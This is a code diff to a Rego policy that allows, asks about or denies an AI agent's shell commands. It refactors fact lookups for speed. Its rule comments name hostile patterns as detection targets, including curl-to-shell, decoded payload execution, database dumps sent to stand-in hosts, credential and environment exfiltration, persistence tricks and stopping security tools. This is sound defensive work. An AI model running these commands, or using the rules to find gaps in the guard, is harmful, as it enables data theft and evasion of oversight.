@@ -8,6 +8,34 @@ shell_facts := object.get(input.facts, "shell", {})
 
 facts_of(kind) := object.get(shell_facts, kind, [])
 
+# Each kind of shell fact as a rule of its own, written sf_KIND: a complete rule is evaluated once
+# per query, while a call of facts_of with an argument is evaluated anew at every use (regorus
+# 0.14 keeps no cache of function calls). Issue 15: 2.90 M instead of 3.16 M instructions of
+# policy evaluation per PreToolUse-Bash (scripts/server_phases.py, callgrind).
+sf_cloud := object.get(shell_facts, "cloud", [])
+sf_commands := object.get(shell_facts, "commands", [])
+sf_decoded_exec := object.get(shell_facts, "decoded_exec", [])
+sf_denial_of_service := object.get(shell_facts, "denial_of_service", [])
+sf_dynamic_code := object.get(shell_facts, "dynamic_code", [])
+sf_env_tamper := object.get(shell_facts, "env_tamper", [])
+sf_evasion := object.get(shell_facts, "evasion", [])
+sf_fetches := object.get(shell_facts, "fetches", [])
+sf_git := object.get(shell_facts, "git", [])
+sf_infra := object.get(shell_facts, "infra", [])
+sf_obfuscation := object.get(shell_facts, "obfuscation", [])
+sf_paths := object.get(shell_facts, "paths", [])
+sf_persistence := object.get(shell_facts, "persistence", [])
+sf_privilege := object.get(shell_facts, "privilege", [])
+sf_publish := object.get(shell_facts, "publish", [])
+sf_remote_exec := object.get(shell_facts, "remote_exec", [])
+sf_remote_paths := object.get(shell_facts, "remote_paths", [])
+sf_secret_prints := object.get(shell_facts, "secret_prints", [])
+sf_secret_search := object.get(shell_facts, "secret_search", [])
+sf_serves := object.get(shell_facts, "serves", [])
+sf_signals := object.get(shell_facts, "signals", [])
+sf_unanalysable := object.get(shell_facts, "unanalysable", [])
+sf_uploads := object.get(shell_facts, "uploads", [])
+
 # @rule shell/recursive-delete-home deny
 # Recursively deleting the home directory, /, a parent of home, the folder of every user's home (/home, /Users), another user's home (/home/alex), or a system directory. A filtered search-and-delete (find / -name X -delete, find ~ -name X -exec rm {} +, find /home -name core -exec rm {} +) counts when its root is /, a home, the homes' folder or a system directory outside the temporary ones.
 decision contains {"id": "shell/recursive-delete-home", "decision": "deny", "reason": reason} if {
@@ -15,7 +43,7 @@ decision contains {"id": "shell/recursive-delete-home", "decision": "deny", "rea
 	p.access == "delete"
 	p.recursive
 	some c in wide_classes
-	lib.has_class(p, c)
+	c in p.classes
 	not filtered_narrow(p)
 	not lib.named_temporary(p)
 	reason := sprintf("%s would recursively delete %s", [lib.how(p), p.path])
@@ -38,17 +66,17 @@ filtered_narrow(p) if {
 # by shape (/home/alex; hookward-facts classify), a system directory.
 wide_classes := {"home", "root", "home_ancestor", "homes", "other_home", "system"}
 
-wide_root(p) if lib.has_class(p, "home")
+wide_root(p) if "home" in p.classes
 
-wide_root(p) if lib.has_class(p, "homes")
+wide_root(p) if "homes" in p.classes
 
-wide_root(p) if lib.has_class(p, "other_home")
+wide_root(p) if "other_home" in p.classes
 
-wide_root(p) if lib.has_class(p, "root")
+wide_root(p) if "root" in p.classes
 
 wide_root(p) if {
-	lib.has_class(p, "system")
-	not lib.has_class(p, "temp")
+	"system" in p.classes
+	not "temp" in p.classes
 	count([s | some s in split(trim_suffix(p.path, "/*"), "/"); s != ""]) <= 2
 }
 
@@ -62,7 +90,7 @@ decision contains {"id": "shell/recursive-permission-home", "decision": "deny", 
 	p.access == "chmod"
 	p.recursive
 	some c in wide_classes
-	lib.has_class(p, c)
+	c in p.classes
 	reason := sprintf("%s would recursively change the permissions or owner of %s", [lib.how(p), p.path])
 }
 
@@ -79,18 +107,18 @@ decision contains {"id": "shell/recursive-delete-outside-project", "decision": "
 	p.recursive
 	not filtered_delete(p)
 	not moved_not_lost(p)
-	lib.has_class(p, "outside_project")
+	"outside_project" in p.classes
 	not below_temp(p)
-	not lib.has_class(p, "tool_cache")
-	not lib.has_class(p, "build_output")
+	not "tool_cache" in p.classes
+	not "build_output" in p.classes
 	not lib.named_temporary(p)
 	reason := sprintf("%s would recursively delete %s, outside the project %s", [lib.how(p), p.path, lib.project])
 }
 
 # Inside a temporary directory, not the directory itself (hookward-facts class `temp_root`).
 below_temp(p) if {
-	lib.has_class(p, "temp")
-	not lib.has_class(p, "temp_root")
+	"temp" in p.classes
+	not "temp_root" in p.classes
 }
 
 # The source of a move (mv, also run by find -exec or xargs) whose every destination in the
@@ -105,28 +133,28 @@ moved_not_lost(p) if {
 	}
 }
 
-kept_place(q) if not lib.has_class(q, "outside_project")
+kept_place(q) if not "outside_project" in q.classes
 
-kept_place(q) if lib.has_class(q, "temp")
+kept_place(q) if "temp" in q.classes
 
 # @rule shell/remote-exec deny
 # Code fetched from the network and run at once (curl … | sh, bash <(curl …)).
 decision contains {"id": "shell/remote-exec", "decision": "deny", "reason": reason} if {
-	some f in facts_of("remote_exec")
+	some f in sf_remote_exec
 	reason := sprintf("the command would run code fetched from the network without saving or reviewing it (%s)", [f.evidence])
 }
 
 # @rule shell/decoded-exec deny
 # A payload decoded and run at once (base64 -d | sh, xxd -r | bash, printf '\x…' | sh).
 decision contains {"id": "shell/decoded-exec", "decision": "deny", "reason": reason} if {
-	some f in facts_of("decoded_exec")
+	some f in sf_decoded_exec
 	reason := sprintf("the command would decode a hidden payload and run it (%s)", [f.evidence])
 }
 
 # @rule shell/privilege-escalation deny
 # sudo, doas, su, pkexec, or making a file setuid. Root for one named program that starts no code of the caller's choosing (root_runs_code: not a shell, interpreter, editor, pager, build tool or launcher, not a content reader or raw disk tool, not a program run by its path) is shell/privileged-command (ask) instead; a password handed to sudo (sudo -S, -A) and a bare check that root works (sudo id, sudo -n true) stay here.
 decision contains {"id": "shell/privilege-escalation", "decision": "deny", "reason": reason} if {
-	some f in facts_of("privilege")
+	some f in sf_privilege
 	not root_for_ordinary_commands
 	reason := sprintf("the command would gain elevated privileges (%s)", [f.evidence])
 }
@@ -136,7 +164,7 @@ decision contains {"id": "shell/privilege-escalation", "decision": "deny", "reas
 decision contains {"id": "shell/privileged-command", "decision": "ask", "reason": reason} if {
 	root_for_ordinary_commands
 	not root_everyday
-	some f in facts_of("privilege")
+	some f in sf_privilege
 	reason := sprintf("the command runs as root (%s); the command itself is an ordinary one", [f.evidence])
 }
 
@@ -153,7 +181,7 @@ root_wrappers := {"sudo", "doas", "run0", "pkexec"}
 # evasion, `sudo systemctl enable --now x.service` of a unit the session wrote is persistence.
 root_everyday if {
 	root_for_ordinary_commands
-	rooted := [c | some c in facts_of("commands"); some w in c.wrappers; w in root_wrappers]
+	rooted := [c | some c in sf_commands; some w in c.wrappers; w in root_wrappers]
 	every c in rooted {
 		c.program in root_everyday_programs
 		not local_package_operand(c)
@@ -329,7 +357,7 @@ root_shell_with_read_code(c) if {
 	i > 0
 	regex.match(`^-[a-zA-Z]*c[a-zA-Z]*$`, a)
 	inner := array.concat(c.wrappers, [c.program])
-	some d in facts_of("commands")
+	some d in sf_commands
 	d.wrappers == inner
 }
 
@@ -365,18 +393,18 @@ root_reads_outside(rooted) if {
 	some c in rooted
 	not c.program in root_ordinary_programs
 	some p in lib.read_paths
-	lib.has_class(p, "outside_project")
-	not lib.has_class(p, "temp")
+	"outside_project" in p.classes
+	not "temp" in p.classes
 }
 
 root_for_ordinary_commands if {
-	privs := facts_of("privilege")
+	privs := sf_privilege
 	count(privs) > 0
 	every f in privs {
 		f.kind == "sudo"
 		f.program in root_wrappers
 	}
-	rooted := [c | some c in facts_of("commands"); some w in c.wrappers; w in root_wrappers]
+	rooted := [c | some c in sf_commands; some w in c.wrappers; w in root_wrappers]
 	count(rooted) > 0
 	every c in rooted {
 		root_ordinary(c)
@@ -385,9 +413,9 @@ root_for_ordinary_commands if {
 	# Nothing else in the command line acts (fetches, uploads, dynamic code, persistence…) or
 	# changes a file outside the project and the temporary folders.
 	count([k | some k in acting_fact_kinds; k != "privilege"; count(facts_of(k)) > 0]) == 0
-	count([p | some p in lib.changed_paths; lib.has_class(p, "outside_project"); not lib.has_class(p, "temp")]) == 0
+	count([p | some p in lib.changed_paths; "outside_project" in p.classes; not "temp" in p.classes]) == 0
 	# `sudo -i`, `sudo -s`, `sudo -l`: the wrapper run on its own.
-	count([c | some c in facts_of("commands"); c.program in root_wrappers]) == 0
+	count([c | some c in sf_commands; c.program in root_wrappers]) == 0
 }
 
 # @rule shell/credential-exfiltration deny
@@ -395,18 +423,18 @@ root_for_ordinary_commands if {
 decision contains {"id": "shell/credential-exfiltration", "decision": "deny", "reason": reason} if {
 	some p in lib.read_paths
 	some c in {"credential", "env_file", "secret_file", "process_secret", "app_secrets"}
-	lib.has_class(p, c)
-	count(facts_of("uploads")) > 0
+	c in p.classes
+	count(sf_uploads) > 0
 	not handed_to_vendor(p)
 	not lib.identity_use(p)
-	reason := sprintf("the command reads %s and uploads data in the same command (%s)", [p.path, facts_of("uploads")[0].evidence])
+	reason := sprintf("the command reads %s and uploads data in the same command (%s)", [p.path, sf_uploads[0].evidence])
 }
 
 decision contains {"id": "shell/credential-exfiltration", "decision": "deny", "reason": reason} if {
 	some p in lib.read_paths
-	lib.has_class(p, "credential")
-	count(facts_of("uploads")) == 0
-	count(facts_of("fetches")) > 0
+	"credential" in p.classes
+	count(sf_uploads) == 0
+	count(sf_fetches) > 0
 	not handed_to_vendor(p)
 	not lib.identity_use(p)
 	reason := sprintf("the command reads %s and talks to the network in the same command", [p.path])
@@ -418,11 +446,11 @@ decision contains {"id": "shell/credential-exfiltration", "decision": "deny", "r
 handed_to_vendor(p) if {
 	lib.handed_token_read(p)
 	hosts := token_vendor_hosts[split(p.how, " ")[0]]
-	every u in facts_of("uploads") {
+	every u in sf_uploads {
 		vendor_domain(target_host(u.target), hosts)
 		u.program in token_carriers
 	}
-	every f in facts_of("fetches") {
+	every f in sf_fetches {
 		vendor_domain(target_host(f.url), hosts)
 	}
 }
@@ -456,9 +484,9 @@ token_vendor_hosts := {
 # The system's account database (/etc/passwd, /etc/group) read in the same command as an upload: the host's users, groups and shells sent off the machine (MITRE ATT&CK T1087.001, T1041). Reading it alone stays quiet.
 decision contains {"id": "shell/account-db-exfiltration", "decision": "deny", "reason": reason} if {
 	some p in lib.read_paths
-	lib.has_class(p, "account_db")
-	count(facts_of("uploads")) > 0
-	reason := sprintf("the command reads the account database %s and uploads data in the same command (%s)", [p.path, facts_of("uploads")[0].evidence])
+	"account_db" in p.classes
+	count(sf_uploads) > 0
+	reason := sprintf("the command reads the account database %s and uploads data in the same command (%s)", [p.path, sf_uploads[0].evidence])
 }
 
 # Programs that print the whole environment when run without a command to run.
@@ -493,14 +521,14 @@ env_access_re := `os\.environ|process\.env\b|\bENV\b|%ENV|environ\(|getenv\(\)`
 # @rule shell/environment-exfiltration deny
 # The environment (API keys and tokens live there) dumped and uploaded in the same command. A dump is printenv/env with no operand, or set/export/declare/typeset with no name (`export -p`, `declare -x`); `set -e`, `set -xue`, `export NAME=v` print nothing.
 decision contains {"id": "shell/environment-exfiltration", "decision": "deny", "reason": reason} if {
-	count(facts_of("uploads")) > 0
-	some c in facts_of("commands")
+	count(sf_uploads) > 0
+	some c in sf_commands
 	env_dump(c)
-	reason := sprintf("the command dumps the environment (%s) and uploads data in the same command (%s)", [c.evidence, facts_of("uploads")[0].evidence])
+	reason := sprintf("the command dumps the environment (%s) and uploads data in the same command (%s)", [c.evidence, sf_uploads[0].evidence])
 }
 
 decision contains {"id": "shell/environment-exfiltration", "decision": "deny", "reason": reason} if {
-	some u in facts_of("uploads")
+	some u in sf_uploads
 	regex.match(env_access_re, u.evidence)
 	reason := sprintf("the command sends the process environment over the network (%s)", [u.evidence])
 }
@@ -512,7 +540,7 @@ security_tools := {"hookward", "agentjail", "guard", "sandbox", "firejail", "bwr
 # @rule shell/stop-security-tool deny
 # Killing or stopping a security tool (hookward, an agent guard or sandbox, an audit or EDR daemon; on Windows Defender, the firewall or event log service by Stop-Service, Set-Service -StartupType Disabled, sc stop, net stop, taskkill).
 decision contains {"id": "shell/stop-security-tool", "decision": "deny", "reason": reason} if {
-	some s in facts_of("signals")
+	some s in sf_signals
 	some t in s.targets
 	some tool in security_tools
 	contains(lower(t), tool)
@@ -520,7 +548,7 @@ decision contains {"id": "shell/stop-security-tool", "decision": "deny", "reason
 }
 
 decision contains {"id": "shell/stop-security-tool", "decision": "deny", "reason": reason} if {
-	some c in facts_of("commands")
+	some c in sf_commands
 	c.program in {"systemctl", "service", "launchctl"}
 	some verb in c.argv
 	verb in {"stop", "disable", "mask", "kill", "unload", "bootout"}
@@ -533,7 +561,7 @@ decision contains {"id": "shell/stop-security-tool", "decision": "deny", "reason
 # @rule shell/publish ask
 # Publishing a package, image or dataset (npm publish, cargo publish, twine upload, docker push, conan upload -r, electron-builder --publish always, butler push, huggingface-cli upload, kaggle datasets create|version, store submissions…; hookward-shell tools.rs publish_kind). A draft release (gh release create --draft; publishing it, gh release edit --draft=false, is asked about) and a copy into the local Maven cache (gradle publishToMavenLocal) publish nothing.
 decision contains {"id": "shell/publish", "decision": "ask", "reason": reason} if {
-	some f in facts_of("publish")
+	some f in sf_publish
 	reason := sprintf("the command would publish (%s)", [f.evidence])
 }
 
@@ -543,7 +571,7 @@ git_deny_kinds := {"push_delete", "push_mirror"}
 # @rule shell/git-remote-delete deny
 # Deleting branches or tags on a remote (push --delete, push :branch, push --mirror). Named topic branches only (git push origin --delete feature/x, :fix/y; not main, master, develop, release*, a version-shaped tag or every ref) ask instead (shell/git-destructive, kind push_delete_branch): the merged branch's cleanup, its commits in the clone.
 decision contains {"id": "shell/git-remote-delete", "decision": "deny", "reason": reason} if {
-	some f in facts_of("git")
+	some f in sf_git
 	f.kind in git_deny_kinds
 	reason := sprintf("the command would delete refs on a shared remote (%s: %s)", [f.kind, f.evidence])
 }
@@ -551,7 +579,7 @@ decision contains {"id": "shell/git-remote-delete", "decision": "deny", "reason"
 # @rule shell/git-destructive ask
 # Force-push, reset --hard, clean -fdx, history rewriting, discarding local changes. A --force-with-lease push of named topic branches is not (the rebase workflow: the push fails if the remote moved; a shared branch such as main, master, develop or release*, HEAD, tags or every branch still counts; hookward-shell vcs.rs topic_branch_refspec).
 decision contains {"id": "shell/git-destructive", "decision": "ask", "reason": reason} if {
-	some f in facts_of("git")
+	some f in sf_git
 	not f.kind in git_deny_kinds
 	f.kind != "no_verify"
 	reason := sprintf("the command would discard or rewrite git history or work (%s: %s)", [f.kind, f.evidence])
@@ -580,7 +608,7 @@ production_write_kinds := {"sql_write", "env_script"}
 # @rule shell/data-destroy deny
 # Deleting stored data: aws s3 rm --recursive, s3 rb, dropdb, DROP/TRUNCATE, FLUSHALL, volume removal. Not on this machine, a throwaway target or a non-production environment by name (hookward-shell tier.rs; shell/nonprod-destroy asks for the last).
 decision contains {"id": "shell/data-destroy", "decision": "deny", "reason": reason} if {
-	some f in facts_of("infra")
+	some f in sf_infra
 	f.kind in infra_data_kinds
 	not f.tier in lowered_tiers
 	reason := sprintf("the command would delete stored data (%s: %s)", [f.kind, f.evidence])
@@ -589,7 +617,7 @@ decision contains {"id": "shell/data-destroy", "decision": "deny", "reason": rea
 # @rule shell/infra-destroy ask
 # terraform destroy, kubectl delete, helm uninstall, cloud CLI deletes and the like. Not on this machine or a throwaway target (hookward-shell tier.rs).
 decision contains {"id": "shell/infra-destroy", "decision": "ask", "reason": reason} if {
-	some f in facts_of("infra")
+	some f in sf_infra
 	not f.kind in infra_data_kinds
 	not f.kind in database_admin_kinds
 	not f.kind in production_write_kinds
@@ -601,14 +629,14 @@ decision contains {"id": "shell/infra-destroy", "decision": "ask", "reason": rea
 # @rule shell/nonprod-destroy ask
 # Stored data or a whole container (bucket, cluster, database, namespace, stack) destroyed with nobody confirming in a shared non-production environment named so: a dev, development, staging, stg, qa or uat word of the target, its connection, context, namespace or DSN variable (snow sql -c dev -q "drop schema …", aws s3 rb s3://shop-staging-assets --force; hookward-shell tier.rs). Asked rather than denied: the data is no customer's, but others may share the environment. On this machine or a throwaway target (scratch, tmp, sandbox; test or preview environments) it is not asked about.
 decision contains {"id": "shell/nonprod-destroy", "decision": "ask", "reason": reason} if {
-	some f in facts_of("infra")
+	some f in sf_infra
 	f.kind in infra_data_kinds
 	f.tier == "nonprod"
 	reason := sprintf("the command would delete stored data in a non-production environment (%s, %s: %s)", [f.tier_marker, f.kind, f.evidence])
 }
 
 decision contains {"id": "shell/nonprod-destroy", "decision": "ask", "reason": reason} if {
-	some f in facts_of("cloud")
+	some f in sf_cloud
 	cloud_forced_whole(f)
 	f.tier == "nonprod"
 	reason := sprintf("the command would delete a whole container in a non-production environment with nobody confirming (%s, %s: %s)", [f.tier_marker, cloud_words(f), f.evidence])
@@ -619,7 +647,7 @@ production_write_words := {"sql_write": "change data or settings of a production
 # @rule shell/production-write ask
 # A change aimed at production by name that no program table sees: SQL that is not read-only (INSERT, UPDATE, DELETE with a WHERE, MERGE, VACUUM, GRANT, a SELECT of pg_drop_replication_slot or pg_terminate_backend) sent to a target whose host, connection, DSN variable or table qualifier says prod, production, prd or live (psql "$LEDGER_PROD_DSN" -c "DELETE … WHERE …", bq query 'DELETE FROM `x-prod.d.t` WHERE …', snow sql -c prod -q "GRANT …"); a project's own script run with an environment option valued so (python3 tools/payouts.py --env live, python3 -m app.deploy --environment=production). Builds for production (npm run build -- --env production, vite build --mode production, NODE_ENV=production) and rehearsals (--dry-run, --plan) are not (hookward-shell tier.rs).
 decision contains {"id": "shell/production-write", "decision": "ask", "reason": reason} if {
-	some f in facts_of("infra")
+	some f in sf_infra
 	f.kind in production_write_kinds
 	f.tier == "prod"
 	reason := sprintf("the command would %s (%s: %s)", [production_write_words[f.kind], f.tier_marker, f.evidence])
@@ -635,7 +663,7 @@ database_admin_words := {"sql_rls_off": "switch a table's row-level security off
 # @rule shell/database-admin ask
 # SQL that administers the whole database server rather than the application's data, or opens its rows to everybody (ALTER TABLE t DISABLE ROW LEVEL SECURITY, CREATE POLICY … USING (true), GRANT … TO PUBLIC or to Supabase's anon role): a role made superuser or given CREATEROLE/BYPASSRLS/REPLICATION (ALTER ROLE x WITH SUPERUSER), MySQL GRANT ALL ON *.* or GRANT SUPER, PostgreSQL's server-program and server-file roles granted; statement or audit logging switched off server-wide (ALTER SYSTEM SET log_statement = 'none', SET GLOBAL general_log = OFF); every session ended (SELECT pg_terminate_backend(pid) FROM pg_stat_activity with no WHERE); a shell command run on the server (COPY … TO|FROM PROGRAM 'cmd', whose command is also judged as a command).
 decision contains {"id": "shell/database-admin", "decision": "ask", "reason": reason} if {
-	some f in facts_of("infra")
+	some f in sf_infra
 	f.kind in database_admin_kinds
 	reason := sprintf("the command would %s (%s)", [database_admin_words[f.kind], f.evidence])
 }
@@ -702,9 +730,9 @@ dump_sent(u) if {
 # @rule shell/database-exfiltration deny
 # A database dumped (pg_dump, pg_dumpall, mysqldump, mariadb-dump, mongodump, mongoexport) or a table copied out by COPY … TO PROGRAM, and the dump sent by a raw carrier (curl -T -, curl -d @-, nc, socat, wget --post-file) to another host in the same command: pg_dump -h db app | gzip | curl -T - https://x.example, pg_dumpall | nc host 9000, psql -c "COPY users TO PROGRAM 'curl -d @- https://x.example'". A dump copied to an object store, another host or a mailbox by aws s3, gsutil, rclone, scp, rsync or a mail sender (a backup) is not this rule's; loopback targets are local.
 decision contains {"id": "shell/database-exfiltration", "decision": "deny", "reason": reason} if {
-	some c in facts_of("commands")
+	some c in sf_commands
 	database_dump(c)
-	some u in facts_of("uploads")
+	some u in sf_uploads
 	dump_sent(u)
 	not own_backup(u)
 	not local_target(u.target)
@@ -715,7 +743,7 @@ decision contains {"id": "shell/database-exfiltration", "decision": "deny", "rea
 # custom format, compressed SQL dumps, mongodump's BSON, Redis snapshots; a plain `.sql` is as
 # often a project's schema or migration) sent by a raw carrier to another host.
 decision contains {"id": "shell/database-exfiltration", "decision": "deny", "reason": reason} if {
-	some u in facts_of("uploads")
+	some u in sf_uploads
 	regex.match(`(?i)(\.(dump|pgdump|bson|rdb)(\.(gz|bz2|xz|zst|zip))?|\.sql\.(gz|bz2|xz|zst|zip))$`, upload_source(u))
 	not own_backup(u)
 	not local_target(u.target)
@@ -723,9 +751,9 @@ decision contains {"id": "shell/database-exfiltration", "decision": "deny", "rea
 }
 
 decision contains {"id": "shell/database-exfiltration", "decision": "deny", "reason": reason} if {
-	some f in facts_of("infra")
+	some f in sf_infra
 	f.kind == "sql_copy_to_program"
-	some u in facts_of("uploads")
+	some u in sf_uploads
 	not own_backup(u)
 	not local_target(u.target)
 	reason := sprintf("the command copies a table to a program on the database server that sends it to %s (%s)", [u.target, f.evidence])
@@ -739,7 +767,7 @@ shared_runtimes := {"node", "nodejs", "java", "python", "python2", "python3", "r
 # @rule shell/kill-runtime ask
 # Signalling every process of a language runtime by its name (killall node, pkill -9 -f java, pkill python3, kill $(pgrep node)): the name picks every program of that language on the machine — the agent's own CLI, editors' language servers, other projects' servers —, not the one the agent started. Stopping one's own server by its own name or port (pkill -f 'vite --port 5173', pkill -f puma) is not asked about.
 decision contains {"id": "shell/kill-runtime", "decision": "ask", "reason": reason} if {
-	some s in facts_of("signals")
+	some s in sf_signals
 	some t in s.targets
 	lower(t) in shared_runtimes
 	reason := sprintf("the command would signal every %s process on the machine, the agent's own and other programs' included (%s)", [t, s.evidence])
@@ -748,7 +776,7 @@ decision contains {"id": "shell/kill-runtime", "decision": "ask", "reason": reas
 # @rule shell/cloud-destroy-forced deny
 # A cloud/infra CLI deleting a whole container of data or resources (bucket, cluster, project, account, database, stack, namespace, resource group, repository, app) with nobody confirming: the CLI never asks (aws, kubectl) or --force/--yes/--quiet/-auto-approve turned its prompt off. Not undoable by re-running code. Not on this machine, a throwaway target or a non-production environment by name (hookward-shell tier.rs; shell/nonprod-destroy asks for the last).
 decision contains {"id": "shell/cloud-destroy-forced", "decision": "deny", "reason": reason} if {
-	some f in facts_of("cloud")
+	some f in sf_cloud
 	f.whole
 	f.non_interactive
 	not f.tier in lowered_tiers
@@ -758,7 +786,7 @@ decision contains {"id": "shell/cloud-destroy-forced", "decision": "deny", "reas
 # @rule shell/cloud-destroy ask
 # A cloud/infra CLI run with a destructive verb by pattern (delete*, remove*, terminate*, release*, deregister*, destroy, drop*, purge, flush*, rb, rm, uninstall): one resource, or a whole one whose CLI still asks for confirmation. A client library's destroying call in interpreter code asks, a whole container included (HfApi().delete_repo(…), client.delete_experiment(id), collection.deleteMany({}); hookward-shell snippet.rs api_destroys). A CLI with no row of its own counts when its confirmation is switched off (civo kubernetes remove prod --yes, pct destroy 100 --purge) or when it deletes a whole bucket, cluster, project, app or database (b2 bucket delete x, kops delete cluster; hookward-shell cloud.rs unlisted). Not on this machine or a throwaway target (hookward-shell tier.rs).
 decision contains {"id": "shell/cloud-destroy", "decision": "ask", "reason": reason} if {
-	some f in facts_of("cloud")
+	some f in sf_cloud
 	not cloud_forced_whole(f)
 	not f.tier in quiet_tiers
 	reason := sprintf("the command would destroy cloud resources (%s: %s)", [cloud_words(f), f.evidence])
@@ -842,7 +870,7 @@ storage_policy_change(c) if {
 # @rule shell/storage-policy-change ask
 # A cloud CLI replacing or widening a storage bucket's or project's access policy (aws s3api put-bucket-policy / put-bucket-acl / delete-public-access-block, gsutil iam set / acl ch, gcloud … set-iam-policy, az storage container set-permission): who may read the data changes at once. Opening it to everyone (allUsers, --public-access blob, public-read) is shell/storage-made-public (deny).
 decision contains {"id": "shell/storage-policy-change", "decision": "ask", "reason": reason} if {
-	some c in facts_of("commands")
+	some c in sf_commands
 	storage_policy_change(c)
 	reason := sprintf("the command would replace or widen a storage access policy (%s)", [c.evidence])
 }
@@ -850,7 +878,7 @@ decision contains {"id": "shell/storage-policy-change", "decision": "ask", "reas
 # @rule shell/storage-made-public deny
 # A storage bucket or container opened to everyone with the cloud CLI (gsutil iam ch allUsers:objectViewer, aws s3api put-bucket-acl --acl public-read, az storage container set-permission --public-access blob): its data becomes readable by anyone.
 decision contains {"id": "shell/storage-made-public", "decision": "deny", "reason": reason} if {
-	some c in facts_of("commands")
+	some c in sf_commands
 	storage_policy_change(c)
 	public_grant(c)
 	reason := sprintf("the command would open a storage bucket or container to everyone (%s)", [c.evidence])
@@ -865,7 +893,7 @@ persistence_deny_kinds := lib.persistence_deny_kinds
 # @rule shell/persistence deny
 # Installing something that runs later or a way back in: crontab, systemd/launchd units, autostart, /etc/ld.so.preload (a library loaded into every program, ld.so(8)), macOS login/logout hooks (defaults write com.apple.loginwindow LoginHook), shell rc files, an authorized_keys file of any user, a new or changed account (useradd, usermod, passwd -d, chpasswd, a write to /etc/passwd or /etc/shadow); a lasting privilege granted on a durable remote host (sudoers written or a setuid bit set over ssh or a configuration manager: kind privilege_grant); code a web server runs on every request (a PHP auto_prepend_file/auto_append_file set in php.ini, .user.ini or .htaccess: kind php_prepend; a PHP file written into another site's WordPress wp-content/mu-plugins: kind web_startup; MITRE ATT&CK T1505.003); on Windows scheduled tasks (schtasks /create, Register-ScheduledTask), services (New-Service, sc create), Run/RunOnce/Winlogon registry keys, the Startup folder, PowerShell profiles, net user /add, net localgroup … /add, New-LocalUser, Add-LocalGroupMember.
 decision contains {"id": "shell/persistence", "decision": "deny", "reason": reason} if {
-	some f in facts_of("persistence")
+	some f in sf_persistence
 	f.kind in persistence_deny_kinds
 	reason := sprintf("the command would install something that runs later without asking (%s: %s)", [f.kind, f.evidence])
 }
@@ -873,7 +901,7 @@ decision contains {"id": "shell/persistence", "decision": "deny", "reason": reas
 # @rule shell/git-hooks ask
 # Changing git hooks or git config keys that run commands (core.hooksPath, core.fsmonitor, alias !…).
 decision contains {"id": "shell/git-hooks", "decision": "ask", "reason": reason} if {
-	some f in facts_of("persistence")
+	some f in sf_persistence
 	not f.kind in persistence_deny_kinds
 	not f.kind in {"package_script", "shell_rc_plain"}
 	reason := sprintf("the command would make git run code later (%s: %s)", [f.kind, f.evidence])
@@ -882,7 +910,7 @@ decision contains {"id": "shell/git-hooks", "decision": "ask", "reason": reason}
 # @rule shell/startup-file-edit ask
 # Lines added to a shell start-up file (~/.bashrc, ~/.zshrc, ~/.profile, /etc/profile.d/*) that only set the shell up: aliases whose commands analyse as harmless, PATH given the user's own folders, the editor, options, completion and the documented set-up line of a local program (eval "$(direnv hook bash)"). Every new shell runs them, so the user is asked; any other content, or content not known (fetched, decoded, read from elsewhere), is shell/persistence (deny). Judge: hookward-shell/src/persist.rs plain_startup_text.
 decision contains {"id": "shell/startup-file-edit", "decision": "ask", "reason": reason} if {
-	some f in facts_of("persistence")
+	some f in sf_persistence
 	f.kind == "shell_rc_plain"
 	reason := sprintf("the command would add lines to %s, which every new shell runs (%s)", [f.target, f.evidence])
 }
@@ -890,16 +918,16 @@ decision contains {"id": "shell/startup-file-edit", "decision": "ask", "reason":
 # @rule shell/fetched-hooks deny
 # git's hooks folder (core.hooksPath) pointed at a folder the same command fills from the network (git clone URL DIR, a download or an extracted archive into it): every later commit, checkout or push runs code nobody has read, fetched from a host the command names (githooks(5): hooks run with the user's rights). Pointing it at a folder already in the project (.githooks, .husky) stays shell/git-hooks (ask).
 decision contains {"id": "shell/fetched-hooks", "decision": "deny", "reason": reason} if {
-	some f in facts_of("persistence")
+	some f in sf_persistence
 	f.kind == "git_hooks"
 	startswith(f.target, "core.hooksPath=")
 	dir := trim_suffix(substring(f.target, count("core.hooksPath="), -1), "/")
 	dir != ""
-	some p in facts_of("paths")
+	some p in sf_paths
 	p.access in {"create", "write"}
 	fetched_into(p)
 	same_or_below(p.path, dir)
-	some u in facts_of("fetches")
+	some u in sf_fetches
 	reason := sprintf("the command would make git run hooks from %s, which it fills from %s (%s)", [dir, u.url, f.evidence])
 }
 
@@ -918,7 +946,7 @@ same_or_below(path, dir) if startswith(dir, concat("", [trim_suffix(path, "/"), 
 # @rule shell/package-script ask
 # A package.json written by the shell (a redirection, tee, sponge) with a lifecycle script (preinstall, install, postinstall, prepare…): the next npm/yarn/pnpm install runs it without asking, like `npm pkg set scripts.postinstall=…`.
 decision contains {"id": "shell/package-script", "decision": "ask", "reason": reason} if {
-	some f in facts_of("persistence")
+	some f in sf_persistence
 	f.kind == "package_script"
 	reason := sprintf("the command writes a lifecycle script into %s, which the next install runs (%s)", [f.target, f.evidence])
 }
@@ -926,7 +954,7 @@ decision contains {"id": "shell/package-script", "decision": "ask", "reason": re
 # @rule shell/env-tamper ask
 # Setting variables that load code, redirect traffic or switch download integrity off (LD_PRELOAD, NODE_OPTIONS, *_BASE_URL, endpoints, tracking and API servers off this machine (*_ENDPOINT, *_ENDPOINT_URL, *_TRACKING_URI, *_API_URL, *_SERVER_URL), proxies, PATH; GOSUMDB=off, GONOSUMDB=*, GOFLAGS=-insecure, npm/yarn strict-ssl false, PIP_TRUSTED_HOST, also by `go env -w`). A bare PROMPT_COMMAND=… (no command, not exported) is not reported: only an interactive shell runs it and the agent's shell is not one (the code in it is still analysed). A value that routes nothing is neutral and not reported (issue 11, benign precision; hookward-shell persist.rs): a HOME that `mktemp -d` makes in the assignment (new and empty: no planted config, nobody's credentials; any other HOME is reported), GIT_CONFIG_COUNT and an empty GIT_CONFIG_PARAMETERS (they inject nothing by themselves), a GIT_CONFIG_KEY_<n> naming a key that can neither run a program nor route traffic (commit.gpgsign) and a GIT_CONFIG_VALUE_<n> that is a plain word, names git does not read (GIT_CONFIG_COUNT_NONE), lower-case script variables (`shell=…`, `home=…`; only the proxies and zsh's `path` are read in lower case), a PATH entry below the home also when the home lies under /tmp, and `url.X.insteadOf Y` between the same host (ssh for https).
 decision contains {"id": "shell/env-tamper", "decision": "ask", "reason": reason} if {
-	some f in facts_of("env_tamper")
+	some f in sf_env_tamper
 	reason := sprintf("the command sets %s, which changes what code runs or where traffic goes (%s)", [f.name, f.evidence])
 }
 
@@ -938,7 +966,7 @@ decision contains {"id": "shell/env-tamper", "decision": "ask", "reason": reason
